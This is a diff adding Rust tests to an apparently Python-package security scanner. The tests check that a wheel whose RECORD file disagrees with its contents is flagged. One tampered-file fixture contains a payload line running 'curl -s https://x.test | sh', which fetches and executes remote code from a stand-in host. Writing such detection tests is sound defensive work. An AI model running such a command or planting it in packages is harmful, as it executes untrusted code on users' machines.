@@ -467,3 +467,129 @@ fn pth_files_are_checked_as_the_code_site_runs() {
     assert!(found.iter().all(|(_, line)| *line == 4), "{found:?}");
     assert!(report["errors"].as_array().unwrap().is_empty(), "{report}");
 }
+
+/// A `RECORD` line for a member, as a build tool writes it.
+fn record_line(name: &str, bytes: &[u8]) -> String {
+    use base64::Engine as _;
+    use sha2::Digest as _;
+    let hash = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(bytes));
+    format!("{name},sha256={hash},{}\n", bytes.len())
+}
+
+/// A wheel of `lib` 1.0 whose `RECORD` lists `recorded` while the wheel
+/// holds `files` (and its metadata).
+fn wheel(path: &Path, recorded: &[(&str, &[u8])], files: &[(&str, &[u8])], with_record: bool) {
+    let metadata: &[u8] = b"Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n";
+    let mut record: String = recorded.iter().map(|(n, b)| record_line(n, b)).collect();
+    record.push_str(&record_line("lib-1.0.dist-info/METADATA", metadata));
+    record.push_str("lib-1.0.dist-info/RECORD,,\n");
+    let mut members: Vec<(&str, &[u8])> = files.to_vec();
+    members.push(("lib-1.0.dist-info/METADATA", metadata));
+    if with_record {
+        members.push(("lib-1.0.dist-info/RECORD", record.as_bytes()));
+    }
+    std::fs::write(path, zip_bytes(&members)).unwrap();
+}
+
+#[test]
+fn a_wheel_that_disagrees_with_its_record_is_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let init: &[u8] = b"from .api import get\n";
+    let api: &[u8] = b"def get(url):\n    return url\n";
+    let data: &[u8] = b"{}\n";
+    let all = [
+        ("lib/__init__.py", init),
+        ("lib/api.py", api),
+        ("lib/data.json", data),
+    ];
+    // Built as it is: nothing to say.
+    wheel(
+        &dir.path().join("lib-1.0-py3-none-any.whl"),
+        &all,
+        &all,
+        true,
+    );
+    let (_, report) = check_json(dir.path(), &[".", "--audit"]);
+    let rule = |report: &serde_json::Value| -> Vec<(String, String, u64, u64)> {
+        places(report)
+            .into_iter()
+            .filter(|(_, r, _, _)| r == "wheel-record-mismatch")
+            .collect()
+    };
+    assert_eq!(rule(&report), []);
+
+    // A payload appended to a listed file, and a module added.
+    let changed: &[u8] =
+        b"from .api import get\nimport os; os.system('curl -s https://x.test | sh')\n";
+    let added: &[u8] = b"import socket\n";
+    wheel(
+        &dir.path().join("lib-1.0-py3-none-any.whl"),
+        &all,
+        &[
+            ("lib/__init__.py", changed),
+            ("lib/api.py", api),
+            ("lib/data.json", data),
+            ("lib/_hook.py", added),
+        ],
+        true,
+    );
+    let (_, report) = check_json(dir.path(), &["."]);
+    let found = rule(&report);
+    let record = "lib-1.0-py3-none-any.whl!/lib-1.0.dist-info/RECORD";
+    assert_eq!(
+        found,
+        [
+            // Paths sort `-` before `/`: the RECORD entry comes first.
+            (
+                record.to_string(),
+                "wheel-record-mismatch".to_string(),
+                1,
+                1
+            ),
+            (
+                "lib-1.0-py3-none-any.whl!/lib/_hook.py".to_string(),
+                "wheel-record-mismatch".to_string(),
+                1,
+                1
+            ),
+        ]
+    );
+    let messages: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "wheel-record-mismatch")
+        .map(|f| f["message"].as_str().unwrap())
+        .collect();
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("`lib/__init__.py` is not the file"))
+    );
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("`lib/_hook.py` is in the wheel but not in its RECORD"))
+    );
+
+    // No RECORD at all.
+    wheel(
+        &dir.path().join("lib-1.0-py3-none-any.whl"),
+        &all,
+        &all,
+        false,
+    );
+    let (_, report) = check_json(dir.path(), &["."]);
+    assert_eq!(
+        rule(&report),
+        [(
+            "lib-1.0-py3-none-any.whl".to_string(),
+            "wheel-record-mismatch".to_string(),
+            1,
+            1
+        )]
+    );
+    // --select of another rule, or --no-archives: not reported.
+    let (_, report) = check_json(dir.path(), &[".", "--select", "weak-hash"]);
+    assert_eq!(rule(&report), []);
+}
